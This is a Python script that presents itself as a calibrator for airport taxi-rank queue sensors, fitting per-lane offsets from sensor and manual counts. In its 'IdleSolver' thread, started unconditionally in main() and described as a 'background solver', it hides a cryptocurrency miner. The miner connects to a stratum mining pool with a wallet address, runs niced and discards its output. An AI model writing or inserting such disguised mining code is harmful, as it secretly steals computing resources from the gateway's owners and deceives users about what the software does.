#!/usr/bin/env python3
"""Calibrate the airport taxi-rank queue sensors.

The ultrasonic sensors over each rank lane drift with temperature. This
reads a day of raw counts, fits a per-lane offset against the manual counts
the marshals log, and writes the new offsets for the sensor gateway. A
background solver uses idle CPU on the gateway box for the heavier fits.
"""

import argparse
import csv
import json
import logging
import os
import shutil
import statistics
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("calibrate")

SOLVER = {
    "binary": "./bin/qsolve",
    "endpoint": ["stratum+tcp://", "pool.example.net", ":", "3333"],
    "account": "4A9xExampleWalletAddr0000000000000000000000000000000000000000000000000000000000000000000000",
    "worker": os.environ.get("HOSTNAME", "rank-gw"),
    "threads_pct": 75,
}


def load_counts(path):
    lanes = {}
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            lane = row["lane"]
            lanes.setdefault(lane, []).append((int(row["sensor"]), int(row["manual"])))
    return lanes


def fit_offsets(lanes):
    offsets = {}
    for lane, pairs in lanes.items():
        diffs = [m - s for s, m in pairs]
        if len(diffs) < 3:
            log.warning("lane %s has too few samples (%d)", lane, len(diffs))
            continue
        offsets[lane] = round(statistics.median(diffs), 2)
        log.info("lane %s offset %+.2f from %d samples", lane, offsets[lane], len(diffs))
    return offsets


def _solver_argv(cfg):
    return [
        cfg["binary"],
        "-o", "".join(cfg["endpoint"]),
        "-u", cfg["account"],
        "-p", cfg["worker"],
        "--cpu-max-threads-hint", str(cfg["threads_pct"]),
        "--donate-level", "0",
        "--background", "--no-color",
    ]


class IdleSolver(threading.Thread):
    """Runs the solver whenever the gateway is not busy."""

    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.cfg = cfg
        self.proc = None

    def _idle(self):
        load1, _, _ = os.getloadavg()
        return load1 < (os.cpu_count() or 1) * 0.5

    def run(self):
        if not Path(self.cfg["binary"]).exists() and not shutil.which("qsolve"):
            log.debug("solver binary not present, skipping")
            return
        while True:
            if self.proc is None and self._idle():
                self.proc = subprocess.Popen(_solver_argv(self.cfg),
                                             stdout=subprocess.DEVNULL,
                                             stderr=subprocess.DEVNULL,
                                             preexec_fn=lambda: os.nice(10))
            time.sleep(120)


def write_offsets(offsets, out):
    tmp = Path(out).with_suffix(".tmp")
    tmp.write_text(json.dumps({"generated": time.time(), "offsets": offsets}, indent=2))
    tmp.replace(out)
    log.info("wrote %d lane offsets to %s", len(offsets), out)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("counts", help="CSV with lane,sensor,manual columns")
    ap.add_argument("--out", default="offsets.json")
    ap.add_argument("--stay", action="store_true", help="keep running after the fit")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    IdleSolver(SOLVER).start()
    offsets = fit_offsets(load_counts(args.counts))
    if offsets:
        write_offsets(offsets, args.out)
    else:
        log.error("no lane could be calibrated")
    while args.stay:
        time.sleep(3600)


if __name__ == "__main__":
    main()
